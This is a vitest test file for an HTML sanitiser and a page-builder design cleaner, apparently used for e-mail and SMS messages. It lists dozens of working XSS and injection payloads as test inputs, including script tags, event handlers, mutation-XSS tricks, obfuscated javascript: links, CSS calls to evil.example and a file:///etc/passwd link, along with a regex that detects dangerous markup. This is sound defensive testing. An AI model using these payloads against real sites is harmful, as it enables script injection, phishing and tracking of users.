import { describe, expect, it } from 'vitest';
import { cleanDesign } from '#server/html/cleanDesign';
import { cleanMessage } from '#server/html/sanitise';

const png =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const clean = (html: string) => cleanMessage({ html, layoutType: 'EMAIL', anchors: [] }).html;

/** What must not be left of any of them. */
const dangerous =
  /<(script|iframe|svg|math|form|input|button|base|meta|link|style|object|embed|template|noscript|video|audio)\b|\son\w+\s*=|javascript:|vbscript:|url\s*\(|@import|expression\s*\(|position\s*:|srcset|srcdoc|\bhttps?:\/\/evil|data:(?!image\/(png|jpeg|gif))/i;

const attacks: Record<string, string> = {
  'a script': '<p>Hi<script>alert(1)</script></p>',
  'a script in capitals with a break': '<p>Hi</p><SCRIPT\n>alert(1)</SCRIPT >',
  'a script within a script': '<p>Hi</p><scr<script>ipt>alert(1)</scr</script>ipt>',
  'an error handler': '<p>Hi</p><img src=x onerror=alert(1)>',
  'an error handler at a good picture': `<p>Hi</p><img src="${png}" onerror="alert(1)">`,
  'a handler behind a slash': '<p>Hi</p><img/src="x"/onerror=alert(1)>',
  'a handler at the body': '<body onload=alert(1)><p>Hi</p></body>',
  'a handler that starts by itself': '<p>Hi</p><details open ontoggle=alert(1)><summary>x</summary></details>',
  'a focus handler': '<p tabindex=1 autofocus onfocus=alert(1)>Hi</p>',
  'an SVG with a script': '<p>Hi</p><svg><script>alert(1)</script></svg>',
  'an SVG that animates a link': '<p>Hi</p><svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'an SVG that uses another': '<p>Hi</p><svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  'an SVG as a picture': '<p>Hi</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  'markup that mutates in math':
    '<p>Hi</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'markup that mutates in a form':
    '<p>Hi</p><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'markup that mutates in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hi</p>',
  'markup that mutates in a template': '<template><img src=x onerror=alert(1)></template><p>Hi</p>',
  'markup in a title': '<title><img src=x onerror=alert(1)></title><p>Hi</p>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>--><p>Hi</p>',
  'a condition for old mail programs': '<!--[if mso]><script>alert(1)</script><![endif]--><p>Hi</p>',
  'a link to a script': '<a href="javascript:alert(1)">Hi</a>',
  'a link to a script with a tab': '<a href="java\tscript:alert(1)">Hi</a>',
  'a link to a script in entities': '<a href="&#106;avascript&colon;alert(1)">Hi</a>',
  'a link to a script behind a control character': '<a href="\u0001javascript:alert(1)">Hi</a>',
  'a link to a script behind an invisible character': '<a href="\u200Bjavascript:alert(1)">Hi</a>',
  'a link to another script': '<a href="vbscript:msgbox(1)">Hi</a>',
  'a link to a page as data': '<a href="data:text/html,<script>alert(1)</script>">Hi</a>',
  'a link to a file': '<a href="file:///etc/passwd">Hi</a>',
  'a frame': '<p>Hi</p><iframe src="https://evil.example"></iframe>',
  'a frame with a page in it': '<p>Hi</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object and an embed': '<p>Hi</p><object data="https://evil.example"></object><embed src="https://evil.example">',
  'a form':
    '<form action="https://evil.example"><p>Hi</p><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  'another base': '<base href="https://evil.example/"><p>Hi</p>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example"><p>Hi</p>',
  'a style sheet': '<link rel=stylesheet href="https://evil.example/x.css"><p>Hi</p>',
  'a style element': '<style>@import url(https://evil.example/x.css);p{position:fixed}</style><p>Hi</p>',
  'a picture elsewhere': '<p>Hi</p><img src="https://evil.example/pixel.gif">',
  'a picture elsewhere without a scheme': '<p>Hi</p><img src="//evil.example/pixel.gif">',
  'a picture set': `<p>Hi</p><img src="${png}" srcset="https://evil.example/x.png 2x">`,
  'a page called a picture': '<p>Hi</p><img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  'a background elsewhere': '<table background="https://evil.example/x.png"><tr><td>Hi</td></tr></table>',
  'a style with an address': '<p style="background:url(https://evil.example/x.png)">Hi</p>',
  'a style with a hidden address': '<p style="background:u\\72l(https://evil.example/x.png)">Hi</p>',
  'a style with an address in a comment': '<p style="background:ur/**/l(https://evil.example/x.png)">Hi</p>',
  'a style with an image set': '<p style="background-image:image-set(\'https://evil.example/x.png\' 1x)">Hi</p>',
  'a style that imports': '<p style="@import \'https://evil.example/x.css\'">Hi</p>',
  'a style with an expression': '<p style="width:expression(alert(1))">Hi</p>',
  'a style with a binding': '<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)">Hi</p>',
  'a style that leaves its place': '<p style="position:fixed;inset:0;z-index:99">Hi</p>',
  'a style that ends its attribute': "<p style='color:red;\"><img src=x onerror=alert(1)>'>Hi</p>",
  'a property of its own': '<p style="--x:url(https://evil.example);background:var(--x)">Hi</p>',
  'a variable from elsewhere': '<p style="color:red;font:var(--evil)">Hi</p>',
};

describe('HTML that somebody sends', () => {
  it.each(Object.entries(attacks))('loses %s, and keeps its text', (_name, html) => {
    const cleaned = clean(html);
    expect(cleaned).not.toMatch(dangerous);
    expect(cleaned).toContain('Hi');
    expect(clean(cleaned)).toBe(cleaned);
  });

  it('keeps what an e-mail is made of', () => {
    const html = `<table width="100%" style="width:100%;background-color:#fff"><tbody><tr><td align="center" style="padding:10px 5px"><h1>Hi</h1><a style="color:rgb(1,2,3)" href="https://bank.example/x?a=1&amp;b=2">open</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+123">call</a><img alt="Logo" src="${png}"></td></tr></tbody></table>`;
    expect(clean(html)).toBe(html);
  });

  it('keeps the role of a table that only places things, and no other role', () => {
    const table = (role: string) => `<table role="${role}"><tbody><tr><td>Hi</td></tr></tbody></table>`;
    expect(clean(table('presentation'))).toBe(table('presentation'));
    for (const role of ['button', 'alert', 'dialog', 'presentation alert', 'x" onclick="alert(1)'])
      expect(clean(table(role))).toBe('<table><tbody><tr><td>Hi</td></tr></tbody></table>');
    expect(clean('<a role="presentation" href="https://a.example">Hi</a><p role="presentation" aria-hidden="true">Hi</p>')).toBe(
      '<a href="https://a.example">Hi</a><p>Hi</p>',
    );
  });

  it('keeps the direction and language of an SMS, and nothing that only looks like them', () => {
    const sms = (html: string) => cleanMessage({ html, layoutType: 'SMS', anchors: [] }).html;
    const html = '<p dir="rtl" lang="he">שלום <strong dir="ltr" lang="zh-Hans-CN">Hi</strong></p>';
    expect(sms(html)).toBe(html);
    for (const hostile of ['dir="x"', 'dir="rtl;"', 'lang="he&quot;onclick=alert(1)"', 'lang="javascript:alert(1)"', 'lang="e"'])
      expect(sms(`<p ${hostile} onclick="alert(1)" style="color:red" title="x" role="presentation">Hi</p>`)).toBe('<p>Hi</p>');
  });

  it('keeps of an SMS only paragraphs, breaks, emphasis and links', () => {
    const html = `<p style="color:red" title="x">Hi <strong>you</strong> <u>there</u><br><a href="https://a.example">a</a><img src="${png}"></p><table><tr><td>cell</td></tr></table>`;
    expect(cleanMessage({ html, layoutType: 'SMS', anchors: [] }).html).toBe(
      '<p>Hi <strong>you</strong> <u>there</u><br><a href="https://a.example">a</a></p>cell',
    );
  });
});

describe('callouts', () => {
  const mark = (html: string, ...anchors: string[]) =>
    cleanMessage({ html, layoutType: 'EMAIL', anchors: anchors.map((anchor, at) => ({ anchor, orderNumber: at + 1 })) });

  it('are marked wherever their text stands, in the same case', () => {
    expect(mark('<p>Pay now. Pay now! pay now</p>', 'Pay now').html).toBe(
      '<p><span class="callout" data-order="1">Pay now</span>. <span class="callout" data-order="1">Pay now</span>! pay now</p>',
    );
  });

  it('are marked across elements and runs of white space', () => {
    expect(mark('<p>Click  <b>he\n re</b> today</p>', 'Click he re').html).toBe(
      '<p><span class="callout" data-order="1">Click </span> <b><span class="callout" data-order="1">he\n re</span></b> today</p>',
    );
  });

  it('are never what somebody marked', () => {
    expect(mark('<p><span class="callout" data-order="7">Pay</span> now</p>', 'now').html).toBe(
      '<p>Pay <span class="callout" data-order="1">now</span></p>',
    );
  });

  it('that are not there are named', () => {
    expect(mark('<p>Pay now</p>', 'now', 'Later').missing).toEqual(['Later']);
  });
});

describe('a message that grows', () => {
  it('by an anchor that is everywhere is refused', () => {
    const anchors = [{ anchor: 'a', orderNumber: 1 }];
    expect(() => cleanMessage({ html: `<p>${'a b '.repeat(5_000)}</p>`, layoutType: 'EMAIL', anchors })).toThrow('too often');
  });

  it('by entities is refused', () => {
    expect(() => cleanMessage({ html: `<p>${'&'.repeat(390_000)}</p>`, layoutType: 'EMAIL', anchors: [] })).toThrow('too long');
  });
});

describe('the design of the builder', () => {
  it('keeps its parts and loses what runs or loads', () => {
    const design = {
      styles: [{ selectors: ['#i1'], style: { color: 'red', 'background-image': 'url(https://evil.example)' } }],
      assets: [{ src: png }, { src: 'https://evil.example/x.png' }],
      pages: [
        {
          frames: [
            {
              component: {
                type: 'wrapper',
                components: [
                  { type: 'text', attributes: { id: 'i1', onclick: 'alert(1)' }, content: 'a < b', script: 'alert(1)' },
                  { type: 'image', src: 'https://evil.example/x.png', attributes: { src: 'javascript:alert(1)', alt: 'x' } },
                  { tagName: 'script', content: 'alert(1)' },
                  { tagName: 'IFRAME', attributes: { srcdoc: '<script>' } },
                  { type: 'text', content: '<img src=x onerror=alert(1)>text' },
                ],
              },
            },
          ],
        },
      ],
    };
    expect(cleanDesign(design)).toEqual({
      styles: [{ selectors: ['#i1'], style: { color: 'red' } }],
      assets: [{ src: png }],
      pages: [
        {
          frames: [
            {
              component: {
                type: 'wrapper',
                components: [
                  { type: 'text', attributes: { id: 'i1' }, content: 'a < b' },
                  { type: 'image', attributes: { alt: 'x' } },
                  { type: 'text', content: 'text' },
                ],
              },
            },
          ],
        },
      ],
    });
  });

  it.each([
    ['a kind in a list', { type: ['script'], content: 'alert(1)' }],
    ['an element in a list', { tagName: ['iframe'], attributes: { id: 'x' } }],
    ['a kind that is an object', { type: { toString: 'script' } }],
  ])('loses %s, which the builder would take as the word', (_name, part) => {
    expect(cleanDesign({ components: [part] })).toEqual({ components: [] });
  });

  it('loses traits and tools, from which the builder makes attributes', () => {
    const part = {
      type: 'text',
      removable: false,
      traits: [{ name: 'onclick', value: 'alert(1)' }],
      toolbar: [{ label: 'x', attributes: { onclick: 'alert(1)' }, command: 'core:component-delete' }],
      dataSources: [{ id: 'a', records: [{ x: 'onclick' }] }],
    };
    expect(cleanDesign({ components: [part] })).toEqual({ components: [{ type: 'text', removable: false }] });
  });

  it('loses pictures and styles that hide as words', () => {
    const style = { color: 'red' };
    const design = {
      assets: ['https://evil.example/x.png', png],
      styles: [
        '@import url(https://evil.example/x.css)',
        { selectors: ['own', '.x{}@import "https://evil.example/x.css";.y'], style },
        { selectors: ['#a'], style, atRuleType: 'media', mediaText: '(max-width: 480px)' },
        { selectors: ['#a'], style, atRuleType: 'import', mediaText: 'all){}@import "https://evil.example/x.css";(', state: 'x{}' },
      ],
    };
    expect(cleanDesign(design)).toEqual({
      assets: [png],
      styles: [
        { selectors: ['own'], style },
        { selectors: ['#a'], style, atRuleType: 'media', mediaText: '(max-width: 480px)' },
        { selectors: ['#a'], style },
      ],
    });
    expect(cleanDesign({ styles: '@import url(https://evil.example/x.css)' })).toEqual({});
  });

  it('that is nested without end is refused', () => {
    let design: Record<string, unknown> = {};
    for (let depth = 0; depth < 300; depth += 1) design = { components: [design] };
    expect(() => cleanDesign(design)).toThrow('nested too deeply');
  });
});
